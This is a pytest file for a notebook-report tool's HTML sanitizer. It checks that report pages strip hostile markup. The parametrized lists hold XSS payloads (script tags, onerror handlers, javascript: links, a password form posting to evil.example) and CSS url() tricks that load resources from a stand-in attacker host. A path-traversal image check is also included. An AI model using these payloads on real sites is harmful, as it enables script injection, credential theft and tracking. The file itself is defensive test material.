"""Nothing in a report runs, loads or covers the page, whatever a run left in its outputs."""

import json
import re
from html.parser import HTMLParser

import nbformat
import pytest

from kernelkit.pages.cells import safe_html
from kernelkit.pages.one_run import report_page
from kernelkit.pages.shared import standalone
from kernelkit.scores.metrics import Metrics
from kernelkit.shown import Section, Shown

PIXEL = "data:image/png;base64,iVBORw0KGgo="


class Seen(HTMLParser):
    """What a browser would make of a page: its tags and attributes."""

    def __init__(self, page):
        super().__init__()
        self.tags = []
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))

    handle_startendtag = handle_starttag


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png">',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">a</a><a href=" java\nscript:alert(1)">b</a>',
    '<a href="data:text/html,<script>alert(1)</script>">c</a>',
    '<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>',
    '<div style="position:fixed;top:0;background:url(//evil.example)">cover</div>',
    '<form action="https://evil.example"><input name=password><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example">',
    "<style>main{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
]
FORBIDDEN = "script iframe object embed form input button base link svg math audio video"


def without_the_kits_own(page):
    """The page less what the kit itself runs: its script and the data that this reads."""
    page = page.replace(f"<script>{standalone.bundled(report_page.SCRIPT)}</script>", "", 1)
    page = page.replace('<link rel="icon" href="data:,">', "", 1)
    page, data = re.sub('<script type="application/json" id="data">[^<]*</script>', "", page), page
    assert page != data
    return page


def check(page):
    seen = Seen(page).tags
    names = [tag for tag, _ in seen]
    assert not {*FORBIDDEN.split()} & {*names}
    assert (names.count("style"), names.count("meta")) == (1, 3)  # the kit's own
    for _tag, attributes in seen:
        assert not [name for name in attributes if name.startswith("on")]
        assert "evil" not in (attributes.get("src") or "")
        assert "position" not in (attributes.get("style") or "")
        assert "url(" not in (attributes.get("style") or "")
        link = "".join((attributes.get("href") or "#").split()).lower()
        assert link.startswith(("#", "http", "mailto:"))


def hostile_notebook(html):
    """A notebook with the markup wherever a notebook can hold text."""
    kinds = "text/html text/markdown application/javascript image/svg+xml text/plain text/latex"
    isolated = {"text/html": {"isolated": False}}
    outputs = [
        *(nbformat.v4.new_output("display_data", data={kind: html}) for kind in kinds.split()),
        nbformat.v4.new_output("display_data", data={"text/html": html}, metadata=isolated),
        nbformat.v4.new_output("stream", text=html),
        nbformat.v4.new_output("error", ename=html, evalue=html, traceback=[html]),
    ]
    broken = f'"><{html}'
    of_cell = {"tags": [broken.replace(",", ";")], "magics_language": broken}
    widgets = {"application/vnd.jupyter.widget-state+json": {"x": html}}
    language = {"name": broken, "pygments_lexer": broken}
    heading = f"# {html}\n\n## {broken}\n\n{html}\n\n[x](javascript:alert(1)) ![y](//evil.example)"
    return nbformat.v4.new_notebook(
        metadata={"title": html, "language_info": language, "widgets": widgets},
        cells=[
            nbformat.v4.new_markdown_cell(heading),
            nbformat.v4.new_raw_cell(html, metadata={"raw_mimetype": "text/html"}),
            nbformat.v4.new_code_cell(html, outputs=outputs, metadata=of_cell),
        ],
    )


@pytest.mark.parametrize("html", ATTACKS)
def test_a_report_is_harmless_whatever_its_notebook_and_its_files_hold(html, tmp_path):
    picture = {"picture": html, "photo": PIXEL, html: html}
    (tmp_path / "a.json").write_text(json.dumps([picture]))
    (tmp_path / "b.csv").write_text(f'name,"F1"\n"{html.replace(chr(34), chr(39))}",0.5\n')
    (tmp_path / "c.csv").write_text(f'"","<b>","{html.replace(chr(34), "")}"\nx,1,2\ny,3,4\n')
    (tmp_path / "history.csv").write_text(f'phase,val_<b>{html.replace(",", "")}\n"{html}",1\n')
    shown = Shown(
        sections=(
            Section(html, "a.json", "photos"),
            Section("t", "a.json", "table", html),
            Section("b", "b.csv", "bars"),
            Section("c", "c.csv", "matrix"),
        )
    )
    metrics = Metrics.of({"macro_f1": html, "device": {html: html}, "versions": {html: html}})
    notebook = hostile_notebook(html)
    page = report_page.render(notebook, metrics, shown, tmp_path, 0.0, tmp_path)[0]
    assert page.count("<section") >= 6  # curves, settings, photos, table, matrix, the notebook
    check(without_the_kits_own(page))
    assert "Content-Security-Policy" in page


@pytest.mark.parametrize(
    "style",
    [
        "cursor:url(//evil.example/x),auto",
        "cursor: URL( '//evil.example' ), auto",
        "c\\75rsor:u\\72l(//evil.example)",
        "cursor:image-set('//evil.example' 1x)",
        "cursor:-webkit-image-set(url(//evil.example) 1x)",
        "cursor:cross-fade(url(//evil.example), red)",
        "cursor:src('//evil.example')",
        "cursor:url(//evil.example",
        "font:12px url(//evil.example)",
        "background:url(//evil.example)",
        "background-color:url(//evil.example)",
        "background-image:image('//evil.example')",
        "list-style:url(//evil.example)",
        "content:url(//evil.example)",
        "border-image:url(//evil.example) 30",
        "mask:url(//evil.example)",
        "filter:url(//evil.example#f)",
        "fill:url(//evil.example#f)",
        "stroke:url(//evil.example#f)",
        "shape-outside:url(//evil.example)",
        "--x:url(//evil.example);cursor:var(--x)",
        "color:attr(title url)",
        "@import url(//evil.example)",
        "width:calc(1px + max(2px, url(//evil.example)))",
    ],
)
def test_no_style_loads_anything(style):
    cleaned = safe_html.clean(f'<p style="text-align:left;{style};color:rgb(1, 2, 3)">seen</p>')
    assert "evil" not in cleaned
    assert "var(" not in cleaned
    assert "attr(" not in cleaned
    assert "text-align:left" in cleaned
    assert "seen" in cleaned


def test_a_link_without_anything_to_press_goes_and_a_target_stays():
    text = '<p>x<a href="https://a.example" class="logo"> </a><a id="here"></a></p>'
    assert safe_html.clean(text) == '<p>x<a id="output-here"></a></p>'


def test_tables_and_pictures_stay():
    html = (
        '<table class="dataframe" border="1"><thead><tr style="text-align: right;"><th>F1</th>'
        f'</tr></thead><tbody><tr><td>0.9</td></tr></tbody></table><img src="{PIXEL}" alt="plot">'
        '<a href="https://www.kaggle.com/code">kernel</a>'
    )
    seen = Seen(safe_html.clean(html)).tags
    assert [tag for tag, _ in seen] == [tag for tag, _ in Seen(html).tags]
    assert ("img", {"src": PIXEL, "alt": "plot"}) in seen
    assert ("a", {"href": "https://www.kaggle.com/code"}) in seen


def test_a_note_stands_where_a_picture_was_that_a_report_would_load():
    markup = f'<p>before <img src="https://example.org/a.png" alt="a"><img src="{PIXEL}"></p>'
    cleaned = safe_html.clean(markup)
    assert cleaned == f'<p>before <em>A picture: the notebook has it.</em><img src="{PIXEL}"></p>'


LARGE = f'<img src="{PIXEL}{"AAAA" * 1_000_000}">'


@pytest.mark.timeout(60)  # which time that grows with the square would exceed
@pytest.mark.parametrize("html", ["<b>" * 200_000, "<style" * 200_000, "x" * 10**7])
def test_markup_without_end_is_named_instead_of_shown(html):
    assert "too long for this page" in safe_html.clean(html)


@pytest.mark.timeout(60)
def test_a_large_picture_is_no_markup_without_end():
    assert LARGE in safe_html.clean(LARGE)


def test_a_report_shows_pictures_of_its_folder_and_no_other_file(tmp_path):
    (tmp_path / "secret.png").write_bytes(b"the secret")
    folder = tmp_path / "run"
    folder.mkdir()
    (folder / "own.png").write_bytes(b"its picture")
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [nbformat.v4.new_markdown_cell("![a](../secret.png) ![b](own.png)")]
    nbformat.write(notebook, folder / "run.ipynb")
    page = report_page.write_report(folder / "run.ipynb", folder / "report.html", folder)
    page = page.read_text()
    assert "dGhlIHNlY3JldA" not in page
    assert "aXRzIHBpY3R1cmU" in page


def test_an_outputs_ids_are_its_own_and_its_style_sheet_is_no_text():
    style = "<style scoped>\n.dataframe tbody tr { color: red }\n</style>"
    cleaned = safe_html.clean(f'{style}<p id="data">1</p><a href="#data">to it</a> id="data"')
    assert "color" not in cleaned
    assert 'id="output-data"' in cleaned
    assert 'href="#output-data"' in cleaned
    assert cleaned.endswith('id="data"')
